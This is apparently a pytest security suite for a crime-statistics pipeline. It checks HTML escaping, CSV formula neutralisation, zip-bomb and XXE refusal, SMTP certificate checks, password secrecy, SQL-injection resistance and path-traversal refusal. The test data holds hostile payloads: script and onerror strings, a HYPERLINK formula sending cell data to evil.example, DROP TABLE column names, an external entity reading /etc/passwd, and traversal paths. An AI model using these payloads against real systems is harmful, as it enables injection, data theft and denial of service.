"""Security, proven end to end: hostile names in data and config are escaped in digests, exports
open safely in Excel, XLSX bombs are refused, SMTP verifies certificates, the SMTP password
never leaks, hostile column names never become SQL, and file names from sources never leave
their folders.

One failing run (``hostile``) is shared by several tests: a source that cannot be reached, an
SMTP server that refuses the login and echoes the credentials back, hostile text in the config
(recipient, plan, priority and source note) and in a return (a partnership name), and the
password in the environment. It runs ``safer run``, ``safer status`` and ``safer export``
through the real command-line entry point, in process, capturing everything they print and log.
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import functools
import io
import json
import logging
import re
import ssl
import traceback
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager, redirect_stderr, redirect_stdout
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
import yaml
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult
from hypothesis import given, settings
from hypothesis import strategies as st

from safer.alerts.send import send_message
from safer.app.batch import sync_source
from safer.app.sources import SOURCES
from safer.indicators.export import csv_safe
from safer.kernel.config import SmtpConfig, load_config
from safer.kernel.errors import FetchError, LoadError, SendError
from safer.kernel.logs import reset_logging
from safer.pipelines.areas import force_areas, load_forces, load_lookup
from safer.pipelines.call_handling import CALL_HANDLING
from safer.pipelines.defra_flytipping import DEFRA_FLYTIPPING, force_las
from safer.pipelines.http import FetchPolicy
from safer.pipelines.landing import land
from safer.pipelines.police_uk import STREET
from safer.pipelines.source import BatchOutcome, SourceContext, safe_name, staging_path
from safer.pipelines.tabular import MAX_UNCOMPRESSED, read_sheet
from safer.scheduler import main
from safer.store.db import connect, connect_staging
from tests.conftest import ROOT, free_port, street_bytes, write_config

Clock = Callable[[], dt.datetime]
AS_OF = dt.date(2026, 1, 15)
PASSWORD = "s3cret-Pa55:never-shown"
USER = "safer"
SECRETS = (
    PASSWORD,
    base64.b64encode(PASSWORD.encode()).decode(),
    base64.b64encode(f"\0{USER}\0{PASSWORD}".encode()).decode(),  # AUTH PLAIN's blob
)
SCRIPT = '<script>alert("x")</script>'
IMG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EXAMPLES = ROOT / "data" / "examples"


def _clock() -> Clock:
    ticks = iter(range(10**6))
    start = dt.datetime(2026, 1, 15, 6, 0, tzinfo=dt.UTC)
    return lambda: start + dt.timedelta(seconds=next(ticks))


# --- the shared hostile, failing run ---------------------------------------------------------


class EchoingMailbox:
    """An SMTP server that refuses every login, quoting the credentials back (as a careless
    server might), and keeps whatever it is sent anyway."""

    def __init__(self) -> None:
        self.messages: list[bytes] = []
        self.logins = 0

    def authenticate(
        self, server: Any, session: Any, envelope: Any, mechanism: str, data: Any
    ) -> AuthResult:
        self.logins += 1
        secret = data.password.decode() if hasattr(data, "password") else str(data)
        return AuthResult(success=False, handled=False, message=f"535 5.7.8 no: {secret}")

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:  # noqa: N802
        self.messages.append(envelope.content)
        return "250 OK"


@contextmanager
def smtp_server(handler: Any, **options: Any) -> Iterator[int]:
    port = free_port()
    controller = Controller(handler, hostname="127.0.0.1", port=port, **options)
    controller.start()
    try:
        yield port
    finally:
        controller.stop()


@dataclass
class Hostile:
    root: Path
    config: Path
    code: int
    printed: str
    """Everything ``safer run``, ``safer status`` (text and JSON) and ``safer export`` wrote to
    standard output and standard error, and every log record at any level."""
    export: Path
    mailbox: EchoingMailbox


def _hostile_plans(folder: Path) -> Path:
    plans = folder / "plans"
    plans.mkdir()
    for path in (ROOT / "indicators" / "plans").glob("*.yaml"):
        plan = yaml.safe_load(path.read_text(encoding="utf-8"))
        plan["id"] = f"{FORMULA}-{plan['id']}"
        plan["name"] = f"{plan['name']} {SCRIPT}"
        for priority in plan["priorities"]:
            priority["name"] = f"{priority['name']} <b>&amp;</b> {IMG}"
        (plans / path.name).write_text(yaml.safe_dump(plan), encoding="utf-8")
    return plans


def _council_return(folder: Path) -> Path:
    council = folder / "council"
    council.mkdir()
    name = "council-enforcement-EXAMPLE-2025-26-Q1.csv"
    text = (EXAMPLES / "council-enforcement" / name).read_text(encoding="utf-8")
    # A partnership's name that does not match its code is a warning, printed beside the figure.
    rows = list(csv.reader(io.StringIO(text)))
    rows[1][2] = f"Cheshire East {SCRIPT}"
    with (council / "q1.csv").open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    return council


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    root = tmp_path_factory.mktemp("hostile")
    council = _council_return(root)
    unreachable = f"http://127.0.0.1:{free_port()}/data"  # nothing listens: the run fails
    extra = f"""
[indicators]
plans_dir = "{_hostile_plans(root)}"

[sources.council_enforcement]
location = "{council}"
note = "{IMG} EXAMPLE figures"
"""
    mailbox = EchoingMailbox()
    captured = io.StringIO()
    records = _Records()
    with (
        smtp_server(mailbox, authenticator=mailbox.authenticate, auth_require_tls=False) as port,
        pytest.MonkeyPatch.context() as patch,
    ):
        patch.setenv("SAFER_SMTP_PASSWORD", PASSWORD)
        config = write_config(root, unreachable, ["2025-06"], smtp_port=port, extra=extra)
        text = config.read_text(encoding="utf-8")
        hostile_name = json.dumps(f"Halton CSP {SCRIPT} & Co")  # a TOML basic string
        text = text.replace('name = "Halton CSP"', f"name = {hostile_name}")
        config.write_text(text + f'user = "{USER}"\n', encoding="utf-8")
        export = root / "observations.csv"
        logging.getLogger().addHandler(records)
        try:
            with redirect_stdout(captured), redirect_stderr(captured):
                code = main(["run", "--config", str(config), "--as-of", AS_OF.isoformat()])
                for command in (["status"], ["status", "--json"], ["export", "--out", str(export)]):
                    main([*command, "--config", str(config)])
                    reset_logging()
        finally:
            logging.getLogger().removeHandler(records)
            reset_logging()
    printed = captured.getvalue() + "\n".join(records.lines)
    yield Hostile(root, config, code, printed, export, mailbox)


class _Records(logging.Handler):
    """Every record at every level, formatted with its traceback, as a handler sees it."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []
        self.setFormatter(logging.Formatter("%(levelname)s %(name)s %(message)s"))

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


def test_the_hostile_run_fails_as_it_should(hostile: Hostile) -> None:
    """The premise of the tests below: a source failed, every login was refused, and the
    digests were still built (and kept for the next run)."""
    assert hostile.code == 1
    assert hostile.mailbox.logins >= 1 and hostile.mailbox.messages == []
    assert "connection failed" in hostile.printed
    assert "login refused for safer: 535" in hostile.printed
    assert sorted(p.suffix for p in (hostile.root / "outbox").iterdir()) == [
        ".eml",
        ".eml",
        ".html",
        ".html",
    ]


def _everything_written(root: Path) -> Iterator[tuple[str, bytes]]:
    for path in sorted(root.rglob("*")):
        if path.is_file():
            yield str(path.relative_to(root)), path.read_bytes()


def _database_text(config: Path) -> str:
    """Every text value in every table of the database, as one string."""
    settings = load_config(config)
    parts: list[str] = []
    with connect(settings.database.path) as db:
        tables = db.rows("SELECT table_name FROM duckdb_tables() WHERE database_name = 'safer'")
        if not tables:
            tables = db.rows("SELECT table_name FROM duckdb_tables()")
        for (table,) in tables:
            parts += [repr(row) for row in db.rows(f'SELECT * FROM "{table}"')]
    return "\n".join(parts)


def test_the_password_appears_in_no_output_file_or_table_of_a_failing_run(
    hostile: Hostile,
) -> None:
    texts = {"output and logs": hostile.printed, "database": _database_text(hostile.config)}
    texts |= {name: data.decode("latin-1") for name, data in _everything_written(hostile.root)}
    assert len(texts) > 10  # outbox, status snapshot, landed returns, database, export...
    for name, text in texts.items():
        for secret in SECRETS:
            assert secret not in text, f"{name} holds the password"
    # The server did echo it: the run saw it and kept it out of everything above.
    assert hostile.mailbox.logins >= 1


def test_the_password_appears_in_no_exception_even_from_a_server_that_echoes_it() -> None:
    mailbox = EchoingMailbox()
    with smtp_server(mailbox, authenticator=mailbox.authenticate, auth_require_tls=False) as port:
        config = SmtpConfig(
            host="127.0.0.1", port=port, security="none", user=USER, sender="s@example.org"
        )
        with pytest.raises(SendError) as raised:
            send_message(config, PASSWORD, EmailMessage())

    assert mailbox.logins >= 1
    text = "".join(traceback.format_exception(raised.value))  # with every chained cause
    assert "login refused for safer: 535" in text
    for secret in SECRETS:
        assert secret not in text


def test_a_password_smtplib_cannot_encode_is_a_permanent_send_error_without_it() -> None:
    """smtplib encodes AUTH data as ASCII: a non-ASCII password raises UnicodeEncodeError,
    which must reach callers as a SendError (no traceback), naming neither it nor its parts."""
    password = "pässwörd-ünïcode-secret"
    handler = Recording()
    with smtp_server(handler, authenticator=handler.authenticate, auth_require_tls=False) as port:
        config = SmtpConfig(
            host="127.0.0.1", port=port, security="none", user=USER, sender="s@example.org"
        )
        with pytest.raises(SendError) as raised:
            send_message(config, password, _message())

    assert not raised.value.transient, "retrying cannot help"
    assert raised.value.__cause__ is None and raised.value.__context__ is None
    text = "".join(traceback.format_exception(raised.value))
    assert f"SMTP 127.0.0.1:{port}: cannot send:" in text and "only ASCII" in text
    for secret in (password, "ä", "ö", "ü", "ï"):
        assert secret not in text
    assert handler.messages == []


def test_hostile_names_in_config_and_data_are_escaped_in_the_html_digest(hostile: Hostile) -> None:
    pages = [p.read_text(encoding="utf-8") for p in (hostile.root / "outbox").glob("*.html")]
    assert len(pages) == 2
    for html in pages:
        assert "<script" not in html.lower() and "<img src=x" not in html
        assert "onerror=alert(1)>" not in html
        assert "&lt;img src=x onerror=alert(1)&gt;" in html  # the source note, shown as text
        assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html  # the plan's name
        assert "<b>&amp;</b>" not in html  # a priority's name is never markup
    halton = next(p for p in pages if "Halton CSP" in p)
    assert "For Halton CSP &lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt; &amp; Co:" in halton
    lead = next(p for p in pages if "Halton CSP" not in p)
    # The return's partnership name (data), in the data note on its figures.
    assert "Cheshire East &lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in lead


def test_the_export_neutralises_every_formula_cell_and_keeps_numbers_numbers(
    hostile: Hostile,
) -> None:
    settings = load_config(hostile.config)
    with connect(settings.database.path) as db:
        # An area name as a future lookup might spell it, and text someone typed into a reason.
        db.execute("UPDATE areas SET area_name = ? WHERE area_code = 'E22000023'", [f"+{FORMULA}"])
        db.execute("UPDATE evaluations SET reason = '@SUM(1+1)' WHERE area_code = 'E22000023'")
    out = hostile.root / "again.csv"
    assert main(["export", "--config", str(hostile.config), "--out", str(out)]) == 0

    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows and {r["plan_id"] for r in rows if r["plan_id"]}  # the hostile plan judged them
    for row in rows:
        for cell in row.values():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number may start so (a negative change, say)
    halton = [r for r in rows if r["area_code"] == "E22000023"]
    assert halton and {r["area_name"] for r in halton} == {f"'+{FORMULA}"}
    assert {r["reason"] for r in halton if r["reason"]} == {"'@SUM(1+1)"}
    assert all(r["plan_id"].startswith("'=HYPERLINK(") for r in rows if r["plan_id"])
    first = hostile.export.read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in first and ",=HYPERLINK(" not in first


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+44 1234", "'+44 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Halton", "Halton"),
        ("", ""),
        ("a=1", "a=1"),
    ],
)
def test_csv_safe_prefixes_exactly_the_formula_starts(text: str, safe: str) -> None:
    assert csv_safe(text) == safe


# --- SMTP: certificates are verified by default ------------------------------------------------


def _self_signed(folder: Path, names: tuple[str, ...] = ("127.0.0.1",)) -> tuple[Path, Path]:
    import ipaddress

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "safer test SMTP")])
    now = dt.datetime.now(dt.UTC)
    alt: list[x509.GeneralName] = []
    for name in names:
        try:
            alt.append(x509.IPAddress(ipaddress.ip_address(name)))
        except ValueError:
            alt.append(x509.DNSName(name))
    cert = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(minutes=5))
        .not_valid_after(now + dt.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName(alt), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    cert_path, key_path = folder / "smtp.pem", folder / "smtp.key"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return cert_path, key_path


class Recording(EchoingMailbox):
    def authenticate(
        self, server: Any, session: Any, envelope: Any, mechanism: str, data: Any
    ) -> AuthResult:
        self.logins += 1
        return AuthResult(success=True)


def _tls_server(
    folder: Path, security: str, names: tuple[str, ...] = ("127.0.0.1",)
) -> tuple[Recording, dict[str, Any], Path]:
    cert, key = _self_signed(folder, names)
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(cert, key)
    handler = Recording()
    options: dict[str, Any] = {"authenticator": handler.authenticate}
    if security == "ssl":
        # aiosmtpd does not count implicit TLS as TLS for AUTH; the connection is TLS anyway.
        options |= {"ssl_context": context, "auth_require_tls": False}
    else:
        options |= {"tls_context": context, "require_starttls": True}
    return handler, options, cert


def _message() -> EmailMessage:
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "s@example.org", "o@example.org", "hi"
    message.set_content("figures")
    return message


@pytest.mark.parametrize("security", ["starttls", "ssl"])
def test_smtp_refuses_a_certificate_nobody_trusts_before_sending_the_password(
    tmp_path: Path, security: str
) -> None:
    handler, options, _ = _tls_server(tmp_path, security)
    with smtp_server(handler, **options) as port:
        config = SmtpConfig(
            host="127.0.0.1", port=port, security=security, user=USER, sender="s@example.org"
        )
        with pytest.raises(SendError) as raised:
            send_message(config, PASSWORD, _message())

    assert "CERTIFICATE_VERIFY_FAILED" in str(raised.value)
    # Retrying would fail the same way: permanent from the first run, so the operator is told.
    assert not raised.value.transient
    assert handler.logins == 0 and handler.messages == []


@pytest.mark.parametrize("security", ["starttls", "ssl"])
def test_smtp_sends_once_the_certificate_is_trusted_and_names_the_host(
    tmp_path: Path, security: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The other half of the proof: the same server, its certificate trusted (as a deployment's
    CA would be), accepts the message; a certificate for another name is still refused."""
    handler, options, cert = _tls_server(tmp_path, security)
    monkeypatch.setenv("SSL_CERT_FILE", str(cert))
    with smtp_server(handler, **options) as port:
        config = SmtpConfig(
            host="127.0.0.1", port=port, security=security, user=USER, sender="s@example.org"
        )
        send_message(config, PASSWORD, _message())
    assert handler.logins == 1 and len(handler.messages) == 1

    other = tmp_path / "other"
    other.mkdir()
    handler, options, cert = _tls_server(other, security, names=("smtp.example.org",))
    monkeypatch.setenv("SSL_CERT_FILE", str(cert))
    with smtp_server(handler, **options) as port:
        config = SmtpConfig(
            host="127.0.0.1", port=port, security=security, user=USER, sender="s@example.org"
        )
        with pytest.raises(SendError) as raised:
            send_message(config, PASSWORD, _message())
    assert "CERTIFICATE_VERIFY_FAILED" in str(raised.value)
    assert "IP address mismatch" in str(raised.value) or "mismatch" in str(raised.value)
    assert handler.logins == 0


def test_starttls_is_never_skipped_for_a_server_that_does_not_offer_it() -> None:
    handler = Recording()
    with smtp_server(handler, authenticator=handler.authenticate, auth_require_tls=False) as port:
        config = SmtpConfig(
            host="127.0.0.1", port=port, security="starttls", user=USER, sender="s@example.org"
        )
        with pytest.raises(SendError) as raised:
            send_message(config, PASSWORD, _message())

    assert "does not offer STARTTLS" in str(raised.value)
    assert not raised.value.transient
    assert handler.logins == 0 and handler.messages == []  # no login, no mail in the clear


# --- XLSX bombs and hostile workbooks ----------------------------------------------------------


def _workbook(rows: list[list[object]]) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "return"
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _rewrite(data: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            content = source.read(info.filename)
            archive.writestr(info.filename, change(content) if info.filename == part else content)
    return out.getvalue()


def _declare_size(data: bytes, part: str, size: int) -> bytes:
    """The archive with ``part``'s uncompressed size in the central directory set to ``size``:
    what the zip directory claims is what a bomb check can see before unpacking."""
    archive = bytearray(data)
    name = part.encode()
    at = archive.find(b"PK\x01\x02" + b"")
    while at != -1:
        name_length = int.from_bytes(archive[at + 28 : at + 30], "little")
        if archive[at + 46 : at + 46 + name_length] == name:
            archive[at + 24 : at + 28] = size.to_bytes(4, "little")
            return bytes(archive)
        at = archive.find(b"PK\x01\x02", at + 4)
    raise AssertionError(part)


HEADER = ["template_version", "month"]
SHEET = "xl/worksheets/sheet1.xml"


@functools.cache
def _hostile_workbooks() -> dict[str, tuple[bytes, str]]:
    good = _workbook([HEADER, ["call-handling-v1", "2025-06"]])
    # A megabyte of spaces packs a thousandfold: far past MAX_RATIO, far under any size cap.
    padding = b"<!--" + b" " * (1 << 20) + b"-->"
    return {
        "ratio bomb": (
            _rewrite(
                good, SHEET, lambda xml: xml.replace(b"<sheetData>", padding + b"<sheetData>")
            ),
            "times its size; refused as a possible zip bomb",
        ),
        "size bomb": (_declare_size(good, SHEET, MAX_UNCOMPRESSED + 1), "over the 268,435,456 cap"),
        "not a zip": (b"PK\x03\x04 not really a workbook", "not an XLSX workbook"),
        "cut-off sheet XML": (
            _rewrite(good, SHEET, lambda xml: xml[: len(xml) // 2]),
            "sheet 'return': cannot be read: ParseError",
        ),
        "entity expansion": (
            _rewrite(
                good,
                SHEET,
                lambda xml: (
                    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
                    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
                    + xml.replace(b"<t>2025-06</t>", b"<t>&b;</t>")
                ),
            ),
            "cannot be read",
        ),
        "external entity": (
            _rewrite(
                good,
                SHEET,
                lambda xml: (
                    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
                    + xml.replace(b"<t>2025-06</t>", b"<t>&e;</t>")
                ),
            ),
            "cannot be read",
        ),
    }


@pytest.mark.parametrize("kind", list(_hostile_workbooks()))
def test_a_hostile_workbook_is_refused_naming_the_file(tmp_path: Path, kind: str) -> None:
    data, says = _hostile_workbooks()[kind]
    path = tmp_path / "june.xlsx"
    path.write_bytes(data)

    with pytest.raises(LoadError) as caught:
        read_sheet(path, sheet="return", header=HEADER, name="june.xlsx")

    assert "june.xlsx" in str(caught.value) and says in str(caught.value), str(caught.value)
    assert "root:" not in str(caught.value)  # /etc/passwd was never read into the message


def test_a_zip_bomb_return_is_quarantined_through_the_pipeline(tmp_path: Path) -> None:
    folder = tmp_path / "returns"
    folder.mkdir()
    data, _ = _hostile_workbooks()["ratio bomb"]
    (folder / "bomb.xlsx").write_bytes(data)
    settings = load_config(
        write_config(
            tmp_path,
            "unused",
            ["2025-01"],
            extra=f'\n[sources.call_handling]\nlocation = "{folder}"\n',
            street=False,
        )
    )

    [outcome] = _sync(settings, CALL_HANDLING)

    assert outcome.outcome == "quarantined"
    assert "bomb.xlsx" in outcome.message and "zip bomb" in outcome.message


def _sync(settings: Any, source: Any) -> list[BatchOutcome]:
    with connect(settings.database.path) as db:
        load_lookup(db)
        load_forces(db)
        force_areas(db, settings.force.pfa_code)
        return sync_source(db, source, SourceContext(settings, "run-1", AS_OF, _clock()))


# --- SQL: hostile column names are data, never SQL -------------------------------------------

HOSTILE_HEADERS = (
    'a"; DROP TABLE canary; --',
    "b'); DROP TABLE canary; --",
    'c"); CREATE TABLE pwned AS SELECT 1; --',
    "{batch}",
    "d\\'",
)


def _canary(settings: Any) -> None:
    with connect(settings.database.path) as db:
        db.execute("CREATE TABLE IF NOT EXISTS canary (i INTEGER)")


def _untouched(settings: Any, staged: Path | None) -> None:
    with connect(settings.database.path) as db:
        assert db.scalar("SELECT count(*) FROM duckdb_tables() WHERE table_name = 'canary'") == 1
        assert db.scalar("SELECT count(*) FROM duckdb_tables() WHERE table_name = 'pwned'") == 0
    if staged is not None and staged.is_file():
        with connect_staging(staged) as db:
            assert db.scalar("SELECT count(*) FROM duckdb_tables() WHERE table_name = 'pwned'") == 0


def test_hostile_column_names_in_a_street_file_are_staged_as_names_and_never_run(
    tmp_path: Path,
) -> None:
    folder = tmp_path / "published"
    folder.mkdir()
    lines = street_bytes("2025-01").decode("utf-8").splitlines()
    header = lines[0] + "," + ",".join('"' + h.replace('"', '""') + '"' for h in HOSTILE_HEADERS)
    body = [line + "," * len(HOSTILE_HEADERS) for line in lines[1:200]]
    (folder / "2025-01-cheshire-street.csv").write_text(
        "\n".join([header, *body]) + "\n", encoding="utf-8"
    )
    settings = load_config(write_config(tmp_path, str(folder), ["2025-01"]))
    _canary(settings)

    [outcome] = _sync(settings, STREET)

    assert outcome.outcome == "quarantined", outcome.message
    assert "columns_as_published" in outcome.message
    assert repr(HOSTILE_HEADERS[0]) in outcome.message  # named, as an unexpected column
    assert outcome.batch_id is not None
    staged = staging_path(settings.paths.data_dir, outcome.batch_id)
    with connect_staging(staged) as db:
        columns = [
            r[0]
            for r in db.rows(
                "SELECT column_name FROM information_schema.columns WHERE table_name = 'batch'"
            )
        ]
    assert columns[-len(HOSTILE_HEADERS) :] == list(HOSTILE_HEADERS)
    _untouched(settings, staged)


def test_hostile_column_names_in_a_return_are_named_and_never_run(tmp_path: Path) -> None:
    folder = tmp_path / "returns"
    folder.mkdir()
    rows = list(
        csv.reader(
            io.StringIO(
                (EXAMPLES / "call-handling/call-handling-EXAMPLE-2025-06.csv").read_text(
                    encoding="utf-8"
                )
            )
        )
    )
    rows[0] += list(HOSTILE_HEADERS)
    rows[1] += ["x"] * len(HOSTILE_HEADERS)
    with (folder / "june.csv").open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    settings = load_config(
        write_config(
            tmp_path,
            "unused",
            ["2025-01"],
            extra=f'\n[sources.call_handling]\nlocation = "{folder}"\n',
            street=False,
        )
    )
    _canary(settings)

    [outcome] = _sync(settings, CALL_HANDLING)

    assert outcome.outcome == "quarantined", outcome.message
    assert "june.csv" in outcome.message and "columns_as_template" in outcome.message
    assert repr(HOSTILE_HEADERS[0].lower()) in outcome.message
    assert outcome.batch_id is not None
    _untouched(settings, staging_path(settings.paths.data_dir, outcome.batch_id))


def test_hostile_extra_columns_in_a_defra_release_run_every_check_and_load_safely(
    tmp_path: Path,
) -> None:
    """DEFRA may add columns, so extra ones pass the column check and every check runs over
    the staged table: the hostile names are reported in a warning and the file loads."""
    from safer.kernel.layouts import ACTION_COLUMNS

    parts = [name for column, name in ACTION_COLUMNS.items() if column != "total_actions"]
    header = ["Year", "ONS Code", "LA Name", "Region", "Total Actions", *parts, *HOSTILE_HEADERS]
    codes = [*force_las("E23000006"), *(f"E07{n:06d}" for n in range(1, 297))]
    rows = [
        [
            "2021-22",
            code,
            f"Authority {n}",
            "North West",
            "10",
            "10",
            *["0"] * (len(parts) - 1),
            *["x"] * len(HOSTILE_HEADERS),
        ]
        for n, code in enumerate(codes)
    ]
    path = tmp_path / "LA_actions.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([header, *rows])
    settings = load_config(
        write_config(
            tmp_path,
            "unused",
            ["2025-01"],
            extra=f'\n[sources.defra_flytipping]\nlocation = "{path}"\n',
            street=False,
        )
    )
    _canary(settings)

    [outcome] = _sync(settings, DEFRA_FLYTIPPING)

    assert outcome.outcome == "loaded", outcome.message
    with connect(settings.database.path) as db:
        assert db.scalar("SELECT count(*) FROM defra_flytipping") == len(codes)
        warning = db.scalar(
            "SELECT message FROM check_results WHERE check_id = 'actions_no_new_columns'"
        )
    assert f"({len(HOSTILE_HEADERS)} failing)" in warning  # every hostile name, as a column
    shown = [name for name in HOSTILE_HEADERS if f"new column {name!r}" in warning]
    assert len(shown) == 3, warning  # the sample's first three, quoted as text
    _untouched(settings, None)


def test_every_table_name_put_into_sql_is_a_plain_identifier_in_the_catalogue(
    tmp_path: Path,
) -> None:
    """Table names are the only identifiers interpolated into SQL outside the trusted catalogue
    and checks (``safer.app.batch``, ``pipelines.police_uk``): each source's is a constant, a
    plain identifier, and a table of the database."""
    settings = load_config(write_config(tmp_path, "unused", ["2025-01"]))
    with connect(settings.database.path) as db:
        tables = {r[0] for r in db.rows("SELECT table_name FROM duckdb_tables()")}
    for source in SOURCES.values():
        assert re.fullmatch(r"[a-z][a-z0-9_]*", source.table), source.table
        assert source.table in tables, source.table


# --- file names from sources stay in their folders --------------------------------------------

POLICY = FetchPolicy(timeout_seconds=2.0, retries=0, backoff_seconds=0.0, max_bytes=1 << 20)


@pytest.mark.parametrize(
    "relative",
    ["../secret.csv", "2025-06/../../secret.csv", "/etc/passwd", "..", "a/..", ""],
)
@pytest.mark.parametrize("remote", [False, True])
def test_a_file_name_that_climbs_out_is_refused_and_nothing_is_read_or_written(
    tmp_path: Path, relative: str, remote: bool
) -> None:
    source = tmp_path / "source"
    source.mkdir()
    (tmp_path / "secret.csv").write_text("password,hunter2\n", encoding="utf-8")
    landing = tmp_path / "var" / "landing" / "src" / "slot"
    base = "http://127.0.0.1:9/data" if remote else str(source)  # port 9: nothing is asked

    with pytest.raises(FetchError) as caught:
        land(base, relative, landing, POLICY)

    assert "refused the file name" in str(caught.value) and not caught.value.transient
    assert not landing.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["secret.csv", "source"]


def test_a_symlink_in_a_return_folder_to_a_file_outside_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "returns"
    folder.mkdir()
    secret = tmp_path / "smtp-password.csv"
    secret.write_text(f"template_version,month\n{PASSWORD},2025-06\n", encoding="utf-8")
    (folder / "june.csv").symlink_to(secret)
    settings = load_config(
        write_config(
            tmp_path,
            "unused",
            ["2025-01"],
            extra=f'\n[sources.call_handling]\nlocation = "{folder}"\n',
            street=False,
        )
    )

    [outcome] = _sync(settings, CALL_HANDLING)

    assert outcome.outcome == "failed"
    assert "outside the source's folder" in outcome.message and PASSWORD not in outcome.message
    landed = list((settings.paths.data_dir / "landing").rglob("*"))
    assert [p for p in landed if p.is_file()] == []


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=0, max_size=300))
def test_safe_name_is_always_one_harmless_component(text: str) -> None:
    root = Path("/data/var/landing/source")
    name = safe_name(text)
    assert name and "/" not in name and "\0" not in name and not name.startswith(".")
    assert len(name) <= 150
    assert (root / name).parent == root
    assert staging_path(Path("/data/var"), text).parent == Path("/data/var/staging")
